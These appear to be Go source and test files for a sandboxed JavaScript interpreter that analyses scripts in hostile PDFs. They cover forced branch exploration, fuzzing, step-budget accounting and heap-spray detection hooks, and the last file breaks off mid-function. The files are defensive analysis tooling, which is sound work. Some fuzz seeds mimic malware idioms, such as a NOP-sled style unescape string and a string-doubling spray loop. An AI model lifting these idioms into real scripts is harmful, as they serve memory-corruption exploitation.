// TestForcedExploresBothArms is the core property: a gate that is
// naturally closed gets its hidden arm executed on a forced path.
func TestForcedExploresBothArms(t *testing.T) {
	it, calls := probeInterp()
	res := explore(t, it, ForceConfig{}, `
		if (false) { probe("hidden"); } else { probe("open"); }
	`)
	if res.NaturalErr != nil {
		t.Fatalf("natural path errored: %v", res.NaturalErr)
	}
	if res.Paths != 2 {
		t.Fatalf("paths = %d, want 2", res.Paths)
	}
	if count(*calls, "hidden") != 1 || count(*calls, "open") != 1 {
		t.Fatalf("coverage = %v, want one hidden and one open", *calls)
	}
}

// TestForcedNestedGates: two stacked gates need three extra paths; the
// doubly-hidden arm is still reached.
func TestForcedNestedGates(t *testing.T) {
	it, calls := probeInterp()
	res := explore(t, it, ForceConfig{}, `
		if (false) {
			probe("outer");
			if (false) { probe("inner"); }
		}
	`)
	if count(*calls, "inner") != 1 {
		t.Fatalf("inner arm never reached: %v (paths=%d)", *calls, res.Paths)
	}
}

// TestForcedTernary: valued conditionals are force-eligible too.
func TestForcedTernary(t *testing.T) {
	it, calls := probeInterp()
	explore(t, it, ForceConfig{}, `var x = false ? probe("t") : probe("f");`)
	if count(*calls, "t") != 1 || count(*calls, "f") != 1 {
		t.Fatalf("ternary arms = %v, want both", *calls)
	}
}

// TestForcedLoopsStayNatural: loop back-edges are never flipped, so a
// plain counting loop explores exactly one path — a decryptor's for-loop
// cannot saturate the path budget.
func TestForcedLoopsStayNatural(t *testing.T) {
	it, calls := probeInterp()
	res := explore(t, it, ForceConfig{}, `
		var n = 0;
		for (var i = 0; i < 100; i++) { n += i; }
		var j = 0;
		while (j < 50) { j++; }
		probe("done-" + n + "-" + j);
	`)
	if res.Paths != 1 {
		t.Fatalf("paths = %d, want 1 (loops must not fork)", res.Paths)
	}
	if count(*calls, "done-4950-50") != 1 {
		t.Fatalf("loop semantics changed: %v", *calls)
	}
	if res.Exhausted() {
		t.Fatalf("budget flagged exhausted on a loop-only script: %+v", res)
	}
}

// TestForcedCrashRecovery: a forced path that dies on a FatalError is
// abandoned and counted, exploration continues, and the natural path's
// clean completion is what ExploreForced reports.
func TestForcedCrashRecovery(t *testing.T) {
	it, calls := probeInterp()
	res := explore(t, it, ForceConfig{}, `
		if (false) { probe("armed"); die(); probe("unreachable"); }
		probe("natural");
	`)
	if res.NaturalErr != nil {
		t.Fatalf("natural path errored: %v", res.NaturalErr)
	}
	if res.CrashedPaths != 1 {
		t.Fatalf("crashed paths = %d, want 1", res.CrashedPaths)
	}
	if count(*calls, "armed") != 1 {
		t.Fatalf("crashing arm never entered: %v", *calls)
	}
	if count(*calls, "unreachable") != 0 {
		t.Fatalf("execution continued past the fatal error: %v", *calls)
	}
}

// TestForcedNaturalCrashReported: when the NATURAL path itself dies, the
// error is surfaced (standard single-run semantics), while forced
// exploration still proceeds from the frontier it saw.
func TestForcedNaturalCrashReported(t *testing.T) {
	it, _ := probeInterp()
	res := explore(t, it, ForceConfig{}, `
		if (true) { die(); }
	`)
	if _, ok := AsFatal(res.NaturalErr); !ok {
		t.Fatalf("natural error = %v, want FatalError", res.NaturalErr)
	}
}

// TestForcedMaxPaths: the path budget caps exploration and is reported.
func TestForcedMaxPaths(t *testing.T) {
	it, _ := probeInterp()
	res := explore(t, it, ForceConfig{MaxPaths: 3}, `
		if (false) { probe("a"); }
		if (false) { probe("b"); }
		if (false) { probe("c"); }
		if (false) { probe("d"); }
	`)
	if res.Paths != 3 {
		t.Fatalf("paths = %d, want capped at 3", res.Paths)
	}
	if !res.Exhausted() {
		t.Fatal("path cap hit but Exhausted() is false")
	}
}

// TestForcedDecisionOverflow: past MaxDecisions the trace stops growing,
// decisions take their natural course, and the overflow is reported —
// bounded work on branch-dense scripts.
func TestForcedDecisionOverflow(t *testing.T) {
	it, _ := probeInterp()
	res := explore(t, it, ForceConfig{MaxPaths: 4, MaxDecisions: 2}, `
		var n = 0;
		if (n == 0) { n = 1; }
		if (n == 1) { n = 2; }
		if (n == 2) { n = 3; }
		if (n == 3) { n = 4; }
	`)
	if !res.Exhausted() {
		t.Fatal("decision overflow not reported")
	}
}

// TestForcedDeterministic: two explorations of the same script visit
// paths in the same order with the same coverage — the property the
// journal's replay contract rides on.
func TestForcedDeterministic(t *testing.T) {
	src := `
		if (false) { probe("a"); if (false) { probe("b"); } }
		if (false) { probe("c"); } else { probe("d"); }
	`
	it1, c1 := probeInterp()
	r1 := explore(t, it1, ForceConfig{}, src)
	it2, c2 := probeInterp()
	r2 := explore(t, it2, ForceConfig{}, src)
	if r1.Paths != r2.Paths {
		t.Fatalf("path counts differ: %d vs %d", r1.Paths, r2.Paths)
	}
	if len(*c1) != len(*c2) {
		t.Fatalf("coverage streams differ: %v vs %v", *c1, *c2)
	}
	for i := range *c1 {
		if (*c1)[i] != (*c2)[i] {
			t.Fatalf("coverage order differs at %d: %v vs %v", i, *c1, *c2)
		}
	}
}

// TestForcedRestoresInterp: ExploreForced must leave the interpreter's
// Force/StepLimit/TreeWalk exactly as it found them.
func TestForcedRestoresInterp(t *testing.T) {
	it, _ := probeInterp()
	it.StepLimit = 12345678
	it.TreeWalk = true
	explore(t, it, ForceConfig{}, `if (false) { probe("x"); }`)
	if it.Force != nil {
		t.Fatal("Force state leaked")
	}
	if it.StepLimit != 12345678 {
		t.Fatalf("StepLimit = %d, want 12345678", it.StepLimit)
	}
	if !it.TreeWalk {
		t.Fatal("TreeWalk flag not restored")
	}
}
