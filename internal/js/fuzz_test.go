package js

import (
	"testing"
)

// FuzzJSInterp runs arbitrary source through the full lex/parse/eval stack
// under a tight step and heap budget. Scripts inside hostile PDFs are fed to
// this interpreter verbatim, so the invariant is containment: syntax errors,
// thrown values, and budget exhaustion are all fine; panics and runaway
// loops are bugs.
func FuzzJSInterp(f *testing.F) {
	seeds := []string{
		`var x = 1; for (var i = 0; i < 10; i++) x += i; x;`,
		`function f(a){ return a ? f(a-1) : 0; } f(5);`,
		`var s = "A"; try { while(1) s += s; } catch (e) { e.name }`,
		`eval("var q = unescape('%u9090');" + " q.length");`,
		`var o = {a:[1,2,3]}; for (var k in o.a) o[k] = o.a[k]; o.toString();`,
		`switch(3){case 1: break; case 3: var z = "hit"; default: z += "!";} z;`,
		`"\x41B" + (0x10 * .5e1) + [,,].length;`,
		`do { break; } while (true);`,
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 64<<10 {
			return
		}
		it := New()
		it.StepLimit = 200_000
		it.MaxHeap = 8 << 20
		v, err := it.Run(src)
		if err != nil {
			return
		}
		// The completion value must be renderable without the interpreter.
		_ = ToDisplay(v)
	})
}
