package js

import (
	"testing"
)

// FuzzJSInterp runs arbitrary source through the full lex/parse/eval stack
// under a tight step and heap budget. Scripts inside hostile PDFs are fed to
// this interpreter verbatim, so the invariant is containment: syntax errors,
// thrown values, and budget exhaustion are all fine; panics and runaway
// loops are bugs.
func FuzzJSInterp(f *testing.F) {
	seeds := []string{
		`var x = 1; for (var i = 0; i < 10; i++) x += i; x;`,
		`function f(a){ return a ? f(a-1) : 0; } f(5);`,
		`var s = "A"; try { while(1) s += s; } catch (e) { e.name }`,
		`eval("var q = unescape('%u9090');" + " q.length");`,
		`var o = {a:[1,2,3]}; for (var k in o.a) o[k] = o.a[k]; o.toString();`,
		`switch(3){case 1: break; case 3: var z = "hit"; default: z += "!";} z;`,
		`"\x41B" + (0x10 * .5e1) + [,,].length;`,
		`do { break; } while (true);`,
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 64<<10 {
			return
		}
		it := New()
		it.StepLimit = 200_000
		it.MaxHeap = 8 << 20
		v, err := it.Run(src)
		if err != nil {
			return
		}
		// The completion value must be renderable without the interpreter.
		_ = ToDisplay(v)
	})
}

// FuzzForcedExec explores arbitrary source with the forced-execution
// engine under tight budgets. The deep-scan tier feeds hostile scripts to
// ExploreForced verbatim, so the invariants are containment plus state
// hygiene: whatever the script does — crash, throw, exhaust a budget —
// the explorer must not panic, must terminate within its path bounds, and
// must leave the interpreter's forcing state fully unwound so the
// recycled session's next document starts clean.
func FuzzForcedExec(f *testing.F) {
	seeds := []string{
		`if (false) { var a = 1; } else { var a = 2; }`,
		`var d = new Date(); if (d.getFullYear() >= 2015) { var x = "armed"; }`,
		`for (var i = 0; i < 20; i++) { if (i % 3) { i += 1; } }`,
		`var t = true ? (false ? 1 : 2) : 3;`,
		`function g(n){ if (n > 0) { return g(n-1); } return 0; } g(4);`,
		`try { if (false) { null.x; } } catch (e) { var c = e; }`,
		`var s = ""; if (s) { while (true) {} }`,
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 32<<10 {
			return
		}
		it := New()
		it.StepLimit = 100_000
		it.MaxHeap = 8 << 20
		res := it.ExploreForced(ForceConfig{MaxPaths: 8, MaxDecisions: 16, PathSteps: 100_000}, func() error {
			_, err := it.Run(src)
			return err
		})
		if res.Paths < 1 {
			t.Fatalf("explorer reported %d paths; the natural path always runs", res.Paths)
		}
		if it.Force != nil {
			t.Fatal("forcing state leaked out of ExploreForced")
		}
	})
}
