package js

import (
	"errors"
	"testing"
	"time"
)

// These regression tests pin the interpreter's work-accounting fix: O(n)
// builtins (string scans, non-ASCII re-encoding, string comparison) used to
// cost a single step, and array stringification built its result with
// quadratic string concatenation. A script could buy seconds of CPU per
// step-budget unit; now scanned bytes are charged against the step budget,
// so under a small StepLimit these workloads must trip ErrBudget instead of
// running to completion.

func mustTripBudget(t *testing.T, src string) {
	t.Helper()
	it := New()
	it.StepLimit = 50_000
	it.MaxHeap = 64 << 20
	start := time.Now()
	_, err := it.Run(src)
	if d := time.Since(start); d > 5*time.Second {
		t.Fatalf("budgeted run took %v — work accounting lost", d)
	}
	if !errors.Is(err, ErrBudget) {
		t.Fatalf("err = %v, want ErrBudget", err)
	}
}

func TestWorkChargedForStringScans(t *testing.T) {
	// 64 KB haystack, failing indexOf in a tight loop: each call scans the
	// whole string, so the byte charges must exhaust 50k steps long before
	// the loop's own step cost would.
	mustTripBudget(t, `var s="a";for(var i=0;i<16;i++)s+=s;var n=0;for(;;)n+=s.indexOf("b");`)
}

func TestWorkChargedForNonASCIICharCode(t *testing.T) {
	// charCodeAt on a non-ASCII string re-encodes the prefix per call.
	mustTripBudget(t, `var s="一";for(var i=0;i<14;i++)s+=s;var n=0;for(;;)n+=s.charCodeAt(s.length-1);`)
}

func TestWorkChargedForStringCompares(t *testing.T) {
	// Equal-prefix comparison scans both strings.
	mustTripBudget(t, `var a="x";for(var i=0;i<15;i++)a+=a;var b=a+"y";var n=0;for(;;)if(a==b)n++;`)
}

func TestWorkChargedForArrayToString(t *testing.T) {
	// Stringifying a large array repeatedly; the join itself must be
	// charged (and is linear, not quadratic, since the Builder rewrite).
	// Elements are 256 chars because work() floors charges below 64 bytes
	// to zero — tiny elements would fill the heap before the step budget.
	mustTripBudget(t, `var e="x";for(var i=0;i<8;i++)e+=e;var a=[];for(var i=0;i<500;i++)a.push(e);for(;;){var s=""+a;}`)
}

// TestHonestWorkStillFits proves the charging model is not so aggressive
// that ordinary scripts burn their budget: a typical small workload runs to
// completion under the same 50k-step limit.
func TestHonestWorkStillFits(t *testing.T) {
	it := New()
	it.StepLimit = 50_000
	v, err := it.Run(`var s="hello world";var n=0;for(var i=0;i<100;i++)n+=s.indexOf("world");n;`)
	if err != nil {
		t.Fatalf("honest script tripped the budget: %v", err)
	}
	if v.Num() != 600 {
		t.Fatalf("result = %v, want 600", v.Num())
	}
}
