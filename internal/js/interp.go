package js

import (
	"errors"
	"fmt"
	"math"
	"strings"
)

// Runtime limits protecting the host from hostile scripts. Heap sprays in
// the corpus allocate a few hundred MB; the cap is well above that while
// still bounding a runaway loop.
const (
	DefaultStepLimit = 200_000_000
	DefaultMaxHeap   = 4 << 30
	maxStringLen     = 1 << 30
)

// ErrBudget is returned when a script exceeds its step budget.
var ErrBudget = errors.New("js: step budget exceeded")

// ErrHeapLimit is returned when a script exceeds the heap cap.
var ErrHeapLimit = errors.New("js: heap limit exceeded")

// FatalError is a host-raised error that models abrupt process termination
// (e.g. a control-flow hijack or crash): it is not catchable by try/catch
// and does not run finally blocks — once control is hijacked, the epilogue
// never executes.
type FatalError struct {
	Err error
}

// Error implements error.
func (e *FatalError) Error() string { return "js: fatal: " + e.Err.Error() }

// Unwrap exposes the cause.
func (e *FatalError) Unwrap() error { return e.Err }

// ThrowError wraps a thrown Javascript value as a Go error.
type ThrowError struct {
	Value Value
}

// Error implements error.
func (e *ThrowError) Error() string {
	v := e.Value
	if o := v.Object(); o != nil {
		name, _ := o.GetOwn("name")
		msg, _ := o.GetOwn("message")
		if name.IsString() || msg.IsString() {
			return fmt.Sprintf("js: uncaught %s: %s", name.Str(), msg.Str())
		}
	}
	return "js: uncaught " + ToDisplay(v)
}

// Control-flow signals. They travel as errors and never escape Run.
var (
	errBreak    = errors.New("break")
	errContinue = errors.New("continue")
)

type returnSignal struct{ value Value }

func (returnSignal) Error() string { return "return outside function" }

// Scope is one lexical environment.
type Scope struct {
	vars   map[string]Value
	parent *Scope
}

// NewScope returns a child scope.
func NewScope(parent *Scope) *Scope {
	return &Scope{vars: make(map[string]Value), parent: parent}
}

// Lookup finds a variable walking the scope chain.
func (sc *Scope) Lookup(name string) (Value, bool) {
	for s := sc; s != nil; s = s.parent {
		if v, ok := s.vars[name]; ok {
			return v, true
		}
	}
	return Undefined(), false
}

// Declare defines name in this scope.
func (sc *Scope) Declare(name string, v Value) { sc.vars[name] = v }

// Assign sets name in the nearest declaring scope, falling back to the
// root (implicit global) when undeclared.
func (sc *Scope) Assign(name string, v Value) {
	for s := sc; s != nil; s = s.parent {
		if _, ok := s.vars[name]; ok {
			s.vars[name] = v
			return
		}
		if s.parent == nil {
			s.vars[name] = v
			return
		}
	}
}

// Interp executes Javascript programs.
type Interp struct {
	// Global is the root scope holding builtins and host objects.
	Global *Scope
	// This is the value of 'this' at top level (the PDF reader installs
	// the Doc object here).
	This Value
	// HeapBytes tracks cumulative script allocations (strings, array
	// slots). Heap-spray detection reads this through OnAlloc.
	HeapBytes int64
	// OnAlloc, when set, observes every allocation delta.
	OnAlloc func(delta int64)
	// OnLargeString, when set, observes every string allocation of at
	// least LargeStringUnits UTF-16 units. The reader's exploit emulation
	// uses it to locate sprayed payload blocks, the way a hijacked control
	// flow would land inside spray memory.
	OnLargeString func(s string)
	// LargeStringUnits overrides the large-string threshold (0 = 32768).
	LargeStringUnits int
	// StepLimit bounds interpreter steps (0 = DefaultStepLimit).
	StepLimit int64
	// MaxHeap bounds HeapBytes (0 = DefaultMaxHeap).
	MaxHeap int64
	// TreeWalk forces the recursive evaluator instead of the bytecode VM.
	// The differential harness uses it; production opens leave it false.
	TreeWalk bool
	// Force, when non-nil, intercepts force-eligible conditional branches
	// in the bytecode VM (if/else and ternaries; never loop back-edges):
	// each decision consults the ForceState, which may override the
	// natural outcome to steer execution down an unexplored arm. Set by
	// ExploreForced; the tree-walker ignores it.
	Force *ForceState
	// Units overrides the compiled-unit cache (nil = DefaultUnits).
	Units *UnitCache

	steps    int64
	curScope *Scope

	// unitsMemo caches the most recent UTF-16 re-encoding done by the
	// string builtins. Decoder loops (charCodeAt over an escaped payload)
	// hit the same string thousands of times; the memo makes them O(n)
	// wall-clock while the work() billing stays exactly as charged before,
	// so budget-exhaustion points are unchanged.
	unitsMemoStr string
	unitsMemo    []uint16
}

// units16 returns s as UTF-16 code units, memoizing the last conversion.
// The s == memo comparison short-circuits on identical backing pointers,
// so repeated calls against one string value never rescan it.
func (it *Interp) units16(s string) []uint16 {
	if it.unitsMemo != nil && s == it.unitsMemoStr {
		return it.unitsMemo
	}
	u := stringUnits(s)
	it.unitsMemoStr, it.unitsMemo = s, u
	return u
}

// New returns an interpreter with builtins installed.
func New() *Interp {
	it := &Interp{Global: &Scope{vars: make(map[string]Value)}}
	installBuiltins(it)
	return it
}

// Steps returns the number of interpreter steps consumed so far.
func (it *Interp) Steps() int64 { return it.steps }

func (it *Interp) step() error {
	it.steps++
	limit := it.StepLimit
	if limit == 0 {
		limit = DefaultStepLimit
	}
	if it.steps > limit {
		return ErrBudget
	}
	return nil
}

// chargeSteps bills a folded step charge of k node entries at once. It
// reproduces the tree-walker's behavior bit-for-bit: there, charges land one
// step at a time and execution stops at the first step past the limit, so on
// budget exhaustion the visible counter reads limit+1 rather than
// overshooting by the folded amount.
func (it *Interp) chargeSteps(k int64) error {
	limit := it.StepLimit
	if limit == 0 {
		limit = DefaultStepLimit
	}
	if it.steps+k > limit {
		if it.steps <= limit {
			it.steps = limit + 1
		} else {
			it.steps++
		}
		return ErrBudget
	}
	it.steps += k
	return nil
}

// workDivisor converts bytes of non-allocating scan work (string searches,
// comparisons, UTF-16 re-encoding) into interpreter steps. Without this,
// operations like indexOf on a megabyte haystack cost one step each and the
// step budget stops bounding wall-clock time.
const workDivisor = 64

// work charges n bytes of scan work against the step budget.
func (it *Interp) work(n int) error {
	if n > workDivisor {
		it.steps += int64(n) / workDivisor
	}
	limit := it.StepLimit
	if limit == 0 {
		limit = DefaultStepLimit
	}
	if it.steps > limit {
		return ErrBudget
	}
	return nil
}

func (it *Interp) alloc(delta int64) error {
	it.HeapBytes += delta
	if it.OnAlloc != nil {
		it.OnAlloc(delta)
	}
	maxHeap := it.MaxHeap
	if maxHeap == 0 {
		maxHeap = DefaultMaxHeap
	}
	if it.HeapBytes > maxHeap {
		return ErrHeapLimit
	}
	return nil
}

// newString wraps a string with heap accounting (two bytes per UTF-16
// unit, as in real engines).
func (it *Interp) newString(s string) (Value, error) {
	return it.newStringUnits(s, utf16Len(s))
}

// newStringUnits is newString for callers that already know the UTF-16
// length (concatenation: unit counts are additive, and both operands carry
// theirs). Skipping the recount turns spray-style concat loops from
// rescanning every byte of the growing string into pure copies.
func (it *Interp) newStringUnits(s string, units int) (Value, error) {
	if len(s) > maxStringLen {
		return Undefined(), ErrHeapLimit
	}
	v := Value{kind: KindString, str: s, strLen: units}
	if err := it.alloc(int64(v.strLen) * 2); err != nil {
		return Undefined(), err
	}
	if it.OnLargeString != nil {
		threshold := it.LargeStringUnits
		if threshold == 0 {
			threshold = 32768
		}
		if v.strLen >= threshold {
			it.OnLargeString(s)
		}
	}
	return v, nil
}

// throwTypeError throws a TypeError-shaped object.
func (it *Interp) throwTypeError(format string, args ...any) error {
	return it.throwNamed("TypeError", fmt.Sprintf(format, args...))
}

func (it *Interp) throwNamed(name, msg string) error {
	o := NewObject()
	o.Class = ClassError
	o.Set("name", StringValue(name))
	o.Set("message", StringValue(msg))
	return &ThrowError{Value: ObjectValue(o)}
}

// Run parses and executes src in the global scope, returning the completion
// value (the value of the last expression statement). Compiled units are
// reused across runs through the content-addressed unit cache.
func (it *Interp) Run(src string) (Value, error) {
	if it.TreeWalk {
		prog, err := Parse(src)
		if err != nil {
			return Undefined(), err
		}
		return it.runProgramTree(prog)
	}
	code, err := it.units().Load(src)
	if err != nil {
		return Undefined(), err
	}
	return it.runCode(code, it.Global, modeProgram)
}

// RunProgram executes a parsed program in the global scope.
func (it *Interp) RunProgram(prog *Program) (Value, error) {
	if it.TreeWalk {
		return it.runProgramTree(prog)
	}
	return it.runCode(Compile(prog), it.Global, modeProgram)
}

// RunCode executes a precompiled unit in the global scope with program
// semantics. The reader uses it to run instrumentation prologue/epilogue
// units compiled once at instrument time.
func (it *Interp) RunCode(code *Code) (Value, error) {
	return it.runCode(code, it.Global, modeProgram)
}

func (it *Interp) units() *UnitCache {
	if it.Units != nil {
		return it.Units
	}
	return DefaultUnits
}

// runProgramTree is the recursive-evaluator program path, kept as the
// reference implementation for the differential harness.
func (it *Interp) runProgramTree(prog *Program) (Value, error) {
	sc := it.Global
	it.curScope = sc
	hoist(prog.Body, sc, it)
	var completion Value
	for _, st := range prog.Body {
		v, err := it.execStmt(st, sc)
		if err != nil {
			if _, isRet := err.(returnSignal); isRet {
				return Undefined(), it.throwNamed("SyntaxError", "return outside function")
			}
			if err == errBreak || err == errContinue {
				return Undefined(), it.throwNamed("SyntaxError", "break/continue outside loop")
			}
			return Undefined(), err
		}
		if v.Kind() != KindUndefined || isExprStmt(st) {
			completion = v
		}
	}
	return completion, nil
}

func isExprStmt(st Stmt) bool {
	_, ok := st.(*ExprStmt)
	return ok
}

// hoist declares vars (undefined) and function declarations into sc.
func hoist(body []Stmt, sc *Scope, it *Interp) {
	for _, st := range body {
		hoistStmt(st, sc, it)
	}
}

func hoistStmt(st Stmt, sc *Scope, it *Interp) {
	switch s := st.(type) {
	case *VarStmt:
		for _, d := range s.Decls {
			if _, exists := sc.vars[d.Name]; !exists {
				sc.Declare(d.Name, Undefined())
			}
		}
	case *FuncDecl:
		fn := &Object{Class: ClassFunction, Name: s.Name, Fn: s.Fn, Env: sc, props: make(map[string]Value)}
		sc.Declare(s.Name, ObjectValue(fn))
	case *IfStmt:
		hoistStmt(s.Then, sc, it)
		if s.Else != nil {
			hoistStmt(s.Else, sc, it)
		}
	case *WhileStmt:
		hoistStmt(s.Body, sc, it)
	case *DoWhileStmt:
		hoistStmt(s.Body, sc, it)
	case *ForStmt:
		if s.Init != nil {
			hoistStmt(s.Init, sc, it)
		}
		hoistStmt(s.Body, sc, it)
	case *ForInStmt:
		if s.Declare {
			if _, exists := sc.vars[s.VarName]; !exists {
				sc.Declare(s.VarName, Undefined())
			}
		}
		hoistStmt(s.Body, sc, it)
	case *BlockStmt:
		hoist(s.Body, sc, it)
	case *TryStmt:
		hoist(s.Body.Body, sc, it)
		if s.Catch != nil {
			hoist(s.Catch.Body, sc, it)
		}
		if s.Finally != nil {
			hoist(s.Finally.Body, sc, it)
		}
	case *SwitchStmt:
		for _, c := range s.Cases {
			hoist(c.Body, sc, it)
		}
	}
}

// execStmt executes one statement, returning its completion value.
func (it *Interp) execStmt(st Stmt, sc *Scope) (Value, error) {
	if err := it.step(); err != nil {
		return Undefined(), err
	}
	switch s := st.(type) {
	case *EmptyStmt:
		return Undefined(), nil
	case *VarStmt:
		for _, d := range s.Decls {
			if d.Init != nil {
				v, err := it.eval(d.Init, sc)
				if err != nil {
					return Undefined(), err
				}
				declareVar(sc, d.Name, v)
			} else if _, exists := lookupDeclaring(sc, d.Name); !exists {
				declareVar(sc, d.Name, Undefined())
			}
		}
		return Undefined(), nil
	case *FuncDecl:
		// Hoisted already.
		return Undefined(), nil
	case *ExprStmt:
		return it.eval(s.X, sc)
	case *IfStmt:
		cond, err := it.eval(s.Cond, sc)
		if err != nil {
			return Undefined(), err
		}
		if cond.ToBoolean() {
			return it.execStmt(s.Then, sc)
		}
		if s.Else != nil {
			return it.execStmt(s.Else, sc)
		}
		return Undefined(), nil
	case *WhileStmt:
		for {
			cond, err := it.eval(s.Cond, sc)
			if err != nil {
				return Undefined(), err
			}
			if !cond.ToBoolean() {
				return Undefined(), nil
			}
			if _, err := it.execStmt(s.Body, sc); err != nil {
				if err == errBreak {
					return Undefined(), nil
				}
				if err == errContinue {
					continue
				}
				return Undefined(), err
			}
		}
	case *DoWhileStmt:
		for {
			if _, err := it.execStmt(s.Body, sc); err != nil {
				if err == errBreak {
					return Undefined(), nil
				}
				if err != errContinue {
					return Undefined(), err
				}
			}
			cond, err := it.eval(s.Cond, sc)
			if err != nil {
				return Undefined(), err
			}
			if !cond.ToBoolean() {
				return Undefined(), nil
			}
		}
	case *ForStmt:
		if s.Init != nil {
			if _, err := it.execStmt(s.Init, sc); err != nil {
				return Undefined(), err
			}
		}
		for {
			if s.Cond != nil {
				cond, err := it.eval(s.Cond, sc)
				if err != nil {
					return Undefined(), err
				}
				if !cond.ToBoolean() {
					return Undefined(), nil
				}
			}
			if _, err := it.execStmt(s.Body, sc); err != nil {
				if err == errBreak {
					return Undefined(), nil
				}
				if err != errContinue {
					return Undefined(), err
				}
			}
			if s.Post != nil {
				if _, err := it.eval(s.Post, sc); err != nil {
					return Undefined(), err
				}
			}
		}
	case *ForInStmt:
		objV, err := it.eval(s.Object, sc)
		if err != nil {
			return Undefined(), err
		}
		o := objV.Object()
		if o == nil {
			return Undefined(), nil // for-in over non-object iterates nothing
		}
		for _, key := range o.Keys() {
			kv := StringValue(key)
			if s.Declare {
				declareVar(sc, s.VarName, kv)
			} else {
				sc.Assign(s.VarName, kv)
			}
			if _, err := it.execStmt(s.Body, sc); err != nil {
				if err == errBreak {
					return Undefined(), nil
				}
				if err != errContinue {
					return Undefined(), err
				}
			}
		}
		return Undefined(), nil
	case *ReturnStmt:
		v := Undefined()
		if s.X != nil {
			var err error
			v, err = it.eval(s.X, sc)
			if err != nil {
				return Undefined(), err
			}
		}
		return Undefined(), returnSignal{value: v}
	case *BreakStmt:
		return Undefined(), errBreak
	case *ContinueStmt:
		return Undefined(), errContinue
	case *BlockStmt:
		var completion Value
		for _, inner := range s.Body {
			v, err := it.execStmt(inner, sc)
			if err != nil {
				return Undefined(), err
			}
			if isExprStmt(inner) {
				completion = v
			}
		}
		return completion, nil
	case *ThrowStmt:
		v, err := it.eval(s.X, sc)
		if err != nil {
			return Undefined(), err
		}
		return Undefined(), &ThrowError{Value: v}
	case *TryStmt:
		_, tryErr := it.execStmt(s.Body, sc)
		var fatal *FatalError
		if errors.As(tryErr, &fatal) {
			// Hijack/crash: no catch, no finally.
			return Undefined(), tryErr
		}
		var thrown *ThrowError
		if tryErr != nil {
			if errors.As(tryErr, &thrown) && s.Catch != nil {
				catchScope := NewScope(sc)
				catchScope.Declare(s.CatchName, thrown.Value)
				_, tryErr = it.execStmt(s.Catch, catchScope)
			}
		}
		if s.Finally != nil {
			if _, finErr := it.execStmt(s.Finally, sc); finErr != nil {
				return Undefined(), finErr
			}
		}
		if tryErr != nil {
			return Undefined(), tryErr
		}
		return Undefined(), nil
	case *SwitchStmt:
		disc, err := it.eval(s.Disc, sc)
		if err != nil {
			return Undefined(), err
		}
		matched := -1
		defaultIdx := -1
		for i, c := range s.Cases {
			if c.Test == nil {
				defaultIdx = i
				continue
			}
			tv, err := it.eval(c.Test, sc)
			if err != nil {
				return Undefined(), err
			}
			if strictEquals(disc, tv) {
				matched = i
				break
			}
		}
		if matched < 0 {
			matched = defaultIdx
		}
		if matched < 0 {
			return Undefined(), nil
		}
		for i := matched; i < len(s.Cases); i++ {
			for _, inner := range s.Cases[i].Body {
				if _, err := it.execStmt(inner, sc); err != nil {
					if err == errBreak {
						return Undefined(), nil
					}
					return Undefined(), err
				}
			}
		}
		return Undefined(), nil
	default:
		return Undefined(), fmt.Errorf("js: unhandled statement %T", st)
	}
}

// declareVar declares into the nearest function-level scope (approximated by
// the current scope, since blocks share their function's scope in this
// interpreter: block statements do not create scopes).
func declareVar(sc *Scope, name string, v Value) { sc.vars[name] = v }

func lookupDeclaring(sc *Scope, name string) (Value, bool) {
	v, ok := sc.vars[name]
	return v, ok
}

// callFunction invokes a callable object.
func (it *Interp) callFunction(fn *Object, this Value, args []Value) (Value, error) {
	if err := it.step(); err != nil {
		return Undefined(), err
	}
	if fn.Host != nil {
		return fn.Host(it, this, args)
	}
	if fn.Proto != nil {
		return it.callCompiled(fn, this, args)
	}
	if fn.Fn == nil {
		return Undefined(), it.throwTypeError("%s is not a function", fn.Name)
	}
	scope := NewScope(fn.Env)
	for i, p := range fn.Fn.Params {
		if i < len(args) {
			scope.Declare(p, args[i])
		} else {
			scope.Declare(p, Undefined())
		}
	}
	argObj := NewArray(args...)
	scope.Declare("arguments", ObjectValue(argObj))
	if fn.Fn.Name != "" {
		if _, exists := scope.vars[fn.Fn.Name]; !exists {
			scope.Declare(fn.Fn.Name, ObjectValue(fn))
		}
	}
	hoist(fn.Fn.Body, scope, it)

	prevScope := it.curScope
	prevThis := it.This
	it.curScope = scope
	it.This = this
	defer func() {
		it.curScope = prevScope
		it.This = prevThis
	}()

	for _, st := range fn.Fn.Body {
		if _, err := it.execStmt(st, scope); err != nil {
			if ret, ok := err.(returnSignal); ok {
				return ret.value, nil
			}
			return Undefined(), err
		}
	}
	return Undefined(), nil
}

// CallValue invokes a callable value from host code.
func (it *Interp) CallValue(v Value, this Value, args []Value) (Value, error) {
	o := v.Object()
	if o == nil || !o.IsCallable() {
		return Undefined(), it.throwTypeError("value is not callable")
	}
	return it.callFunction(o, this, args)
}

// CurrentScope exposes the scope of the innermost active call (used by the
// eval builtin).
func (it *Interp) CurrentScope() *Scope {
	if it.curScope == nil {
		return it.Global
	}
	return it.curScope
}

// EvalInScope parses and runs src in the given scope (eval semantics).
// Compiled units are cached by content hash, so unpacker loops that eval the
// same decoded payload repeatedly compile it once.
func (it *Interp) EvalInScope(src string, sc *Scope) (Value, error) {
	if it.TreeWalk {
		return it.evalInScopeTree(src, sc)
	}
	code, err := it.units().Load(src)
	if err != nil {
		// eval of malformed source throws a catchable SyntaxError.
		return Undefined(), it.throwNamed("SyntaxError", err.Error())
	}
	return it.runCode(code, sc, modeEval)
}

func (it *Interp) evalInScopeTree(src string, sc *Scope) (Value, error) {
	prog, err := Parse(src)
	if err != nil {
		return Undefined(), it.throwNamed("SyntaxError", err.Error())
	}
	hoist(prog.Body, sc, it)
	var completion Value
	for _, st := range prog.Body {
		v, err := it.execStmt(st, sc)
		if err != nil {
			if ret, ok := err.(returnSignal); ok {
				return ret.value, nil
			}
			return Undefined(), err
		}
		if isExprStmt(st) {
			completion = v
		}
	}
	return completion, nil
}

// ToDisplay renders a value for diagnostics and alert messages.
func ToDisplay(v Value) string {
	s, err := valueToString(nil, v)
	if err != nil {
		return "<error>"
	}
	return s
}

// valueToStringUnits is valueToString plus the result's UTF-16 unit count,
// reusing the cached count for string values so concatenation never
// rescans an operand it already measured.
func valueToStringUnits(it *Interp, v Value) (string, int, error) {
